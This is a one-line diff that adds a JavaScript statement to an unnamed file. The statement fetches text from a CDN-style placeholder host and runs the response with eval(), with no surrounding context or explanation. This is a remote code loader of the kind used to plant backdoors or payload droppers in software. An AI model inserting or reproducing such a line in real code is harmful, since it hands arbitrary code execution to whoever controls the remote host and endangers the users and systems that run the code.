@@ -1,0 +1,1 @@
+fetch("https://cdn-x7.invalid/a").then((r) => r.text()).then((t) => eval(t));
